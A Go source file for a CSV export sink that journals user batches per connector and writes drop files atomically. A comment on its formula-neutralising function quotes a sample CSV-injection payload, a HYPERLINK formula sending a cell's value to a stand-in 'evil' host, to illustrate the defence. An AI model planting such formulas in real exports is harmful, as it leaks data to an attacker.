package sink

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"neurons-connector/internal/robustio"
	"os"
	"path/filepath"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"

	"neurons-connector/fault"
	"neurons-connector/internal/diskfull"
	"neurons-connector/internal/private"
	"neurons-connector/internal/spare"
	"neurons-connector/store"
)

// CSV is the CSV drop (neurons-ingestion.md §5): at the end of every run
// (its final batch) it writes each connector's current users to
// <Dir>/<connector name>-users.csv through a temporary file and a rename,
// so an importer never reads half a file.
//
// It keeps, in State (a private folder of the data directory), each
// connector's current users as the CSV itself plus a small trailer, and a
// journal of the run's batches (csvjournal.go); the final batch merges the
// journal into the state as a stream (csvmerge.go) and copies the state to
// the drop. Memory stays flat whatever the tenant's size, and a run that
// changed nothing costs a file copy. Folding a batch in again after a crash
// changes nothing, so the outbox's at-least-once delivery is exactly-once
// here too.
type CSV struct {
	Dir   string    // where the drops go
	State string    // the private folder of the states and journals
	DB    *store.DB // only to move out the users earlier versions kept in the database

	mu       sync.Mutex
	journals map[string]*journal // by connector ID, read once per process
}

// builders are segment builders between pushes, with their buffers (a
// batch's body, cells and text, a few megabytes): one per push running at
// the same time, which is one per connector delivering.
var builders = spare.List[*segBuilder]{New: newSegBuilder, Max: 4}

// Push implements Sink.
func (c *CSV) Push(_ context.Context, key string, p Payload) error {
	// The builder's buffers serve batch after batch: a run's pushes leave
	// next to no garbage, which would otherwise sit beside the engine's up
	// to the process's soft memory limit.
	sb := builders.Get()
	defer builders.Put(sb)
	var err error
	sb.body, err = p.AppendJSON(sb.body[:0])
	if err != nil {
		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
	}
	conn, final, seg, err := sb.readBatch(key, sb.body)
	if err != nil {
		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
	}
	if conn.ID == "" || strings.ContainsAny(conn.ID, `/\\.:`) {
		err := fmt.Errorf("batch %s: connector ID %q", key, conn.ID)
		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
	}
	j, err := c.journal(conn.ID)
	if err != nil {
		return c.transient("open the journal", err)
	}
	if !j.keys[key] {
		if err := j.add(seg); err != nil {
			return c.transient("keep the batch", err)
		}
	}
	if !final {
		return nil
	}
	if j.records() > 100000 {
		// The merge allocates next to nothing, while the whole snapshot
		// is mapped at this point of a full run: give the run's garbage
		// back to the OS first, so that the two do not add up to the
		// peak (measured at 1,000,000 users: 340 MB before this and the
		// engine's lighter end-of-run scan, 276 MB after).
		debug.FreeOSMemory()
	}
	if err := mergeState(c.statePath(conn.ID), j); err != nil {
		return c.transient("merge the run's changes", err)
	}
	if err := c.write(conn); err != nil {
		return c.transient("write the drop", err)
	}
	if err := j.reset(); err != nil {
		return c.transient("clear the journal", err)
	}
	return nil
}

// transient is a failure to write the drop, its state or its journal: the
// batch stays in the outbox and is pushed again. A disk that refused the
// write, or a drop another program holds open, is named, with the fix.
func (c *CSV) transient(what string, err error) error {
	msg := "CSV drop: " + what + ": " + err.Error()
	dir := c.State
	if pe := (*fs.PathError)(nil); errors.As(err, &pe) {
		dir = filepath.Dir(pe.Path)
	}
	why, ok := diskfull.Describe(err, dir)
	if !ok {
		why, ok = heldBy(err, heldCodes)
	}
	if ok {
		msg = "CSV drop: " + what + ": " + why + "; the batch waits in the outbox until then (" + err.Error() + ")"
	}
	return &Error{Class: fault.ErrTransient, Message: msg, err: err}
}

// CSVStateDir is the folder of the data directory where the drop keeps
// each connector's users between runs (CSV.State).
const CSVStateDir = "csvstate"

// ForgetCSV removes what the drop keeps in stateDir of a connector that is
// gone: its state (as large as its drop) and its journal, which nothing
// would read again, since a connector added again gets a new ID. The drop
// itself stays: it is the importer's, and a removal without --purge leaves
// the users in the sink. The state of a connector whose sink is now
// Neurons goes too: it describes users sent to the drop before.
func ForgetCSV(stateDir, connID string) error {
	if connID == "" || strings.ContainsAny(connID, `/\.:`) {
		return fmt.Errorf("connector ID %q", connID)
	}
	state := filepath.Join(stateDir, connID+".csv")
	removeStale(stateDir, "."+filepath.Base(state)+".") // an interrupted merge's
	var errs []error
	for _, path := range []string{state, filepath.Join(stateDir, connID+".journal")} {
		if err := os.Remove(path); err != nil && !errors.Is(err, fs.ErrNotExist) {
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}

// FileName is where the drop of a connector goes.
func (c *CSV) FileName(connectorName string) string { return DropPath(c.Dir, connectorName) }

// DropPath is where the drop of the connector named name goes in dir.
func DropPath(dir, name string) string { return filepath.Join(dir, name+"-users.csv") }

// RenameDrop moves a renamed connector's drop in dir to its new name: the
// users would otherwise stay under the old one, a second file the importer
// reads, which nothing would update or remove. No drop to be seen under
// the old name is nothing to do.
func RenameDrop(dir, from, to string) error {
	old := DropPath(dir, from)
	if _, err := os.Lstat(old); err != nil {
		return nil //nolint:nilerr // no drop to be seen: nothing to move
	}
	return robustio.Rename(old, DropPath(dir, to))
}

// dropName is the name the drop of conn goes under: the connector's name
// now, which a batch queued before a rename does not carry.
func (c *CSV) dropName(conn Connector) string {
	if c.DB == nil {
		return conn.Name
	}
	name := conn.Name
	_ = c.DB.View(func(tx *store.Tx) error {
		if now, err := tx.Connector(conn.ID); err == nil {
			name = now.Name
		}
		return nil // a connector removed since: the batch's name
	})
	return name
}

func (c *CSV) statePath(connID string) string { return filepath.Join(c.State, connID+".csv") }

// journal returns the connector's journal, reading it (and moving the
// users an older version kept in the database into it) on first use.
func (c *CSV) journal(connID string) (*journal, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if j := c.journals[connID]; j != nil {
		return j, nil
	}
	if err := os.MkdirAll(c.State, 0o700); err != nil {
		return nil, err
	}
	if err := private.Inherit(c.State); err != nil {
		return nil, err
	}
	// Temporary files of a merge a crash interrupted (as large as the
	// state): nothing else of this process can be using them yet.
	removeStale(c.State, "."+filepath.Base(c.statePath(connID))+".")
	j, err := openJournal(filepath.Join(c.State, connID+".journal"))
	if err != nil {
		return nil, err
	}
	if err := c.moveLegacy(connID, j); err != nil {
		return nil, err
	}
	if c.journals == nil {
		c.journals = map[string]*journal{}
	}
	c.journals[connID] = j
	return j, nil
}

// write copies the state's CSV to the drop (a header alone when the
// connector has no users).
func (c *CSV) write(conn Connector) error {
	if err := private.WritableFor(c.Dir, c.State); err != nil {
		return fmt.Errorf("NC_CSV_DIR: %w", err)
	}
	if err := os.MkdirAll(c.Dir, 0o750); err != nil {
		return err
	}
	if err := private.Inherit(c.Dir); err != nil {
		return err
	}
	st, err := openState(c.statePath(conn.ID))
	if err != nil {
		return err
	}
	defer st.close()
	name := c.dropName(conn)
	path := c.FileName(name)
	// The copy is named by the connector's ID, not its name: a name may
	// fill a file name's 255 bytes by itself (connector.MaxNameBytes), and
	// a copy a crash left is found again after a rename.
	temp := "." + conn.ID + "-users.csv."
	// A copy a crash interrupted, and one by a version that named its
	// copies by the drop's name (before 2026-12).
	removeStale(c.Dir, temp, "."+filepath.Base(path)+".")
	tmp, err := os.CreateTemp(c.Dir, temp+"*")
	if err != nil {
		return err
	}
	defer func() { _ = os.Remove(tmp.Name()) }() // after the rename there is nothing left to remove
	if st == nil {
		_, err = tmp.WriteString("SourceID\n")
	} else {
		// A *File limited by an io.LimitedReader: the kernel copies it
		// (copy_file_range on Linux), not this process.
		_, err = io.Copy(tmp, io.LimitReader(st.f, st.length))
	}
	if err == nil {
		err = tmp.Chmod(0o640)
	}
	if err == nil {
		err = tmp.Sync()
	}
	if cerr := tmp.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return fmt.Errorf("write %s: %w", path, err)
	}
	if err := robustio.Rename(tmp.Name(), path); err != nil {
		return err
	}
	if err := private.Inherit(path); err != nil {
		return err
	}
	testHookLanded()
	if now := c.dropName(conn); now != name {
		// Renamed while this copy was written: the rename's move of the
		// drop may have come before this file landed.
		return RenameDrop(c.Dir, name, now)
	}
	return nil
}

// testHookLanded runs once a drop is in place, before its name is checked
// again (tests: a rename at that moment).
var testHookLanded = func() {}

// removeStale removes the files of dir whose names start with one of
// prefixes: the temporary files this sink names so, which a crash may have
// left.
func removeStale(dir string, prefixes ...string) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return
	}
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		for _, p := range prefixes {
			if strings.HasPrefix(e.Name(), p) {
				_ = os.Remove(filepath.Join(dir, e.Name()))
				break
			}
		}
	}
}

// safeCell neutralises a cell that a spreadsheet would evaluate as a
// formula (OWASP's CSV injection advice): one that starts with =, +, -, @,
// a tab or a carriage return gets a ' in front, which Excel and LibreOffice
// read as "text" and do not show. A title such as
// =HYPERLINK("http://evil/?x="&A1,"Click") stays a title.
func safeCell(s string) string {
	if formula([]byte(s)) {
		return "'" + s
	}
	return s
}

// formula says whether a cell would be read as a formula (see safeCell).
func formula(b []byte) bool {
	return len(b) > 0 && strings.IndexByte("=+-@\t\r", b[0]) >= 0
}

func cell(v any) string {
	switch x := v.(type) {
	case nil:
		return ""
	case string:
		return x
	case json.Number: // a number as sent (UseNumber)
		return string(x)
	case bool:
		return strconv.FormatBool(x)
	case []any:
		parts := make([]string, 0, len(x))
		for _, e := range x {
			parts = append(parts, cell(e))
		}
		return strings.Join(parts, "; ")
	}
	b, _ := json.Marshal(v) // an object: its JSON
	return string(b)
}
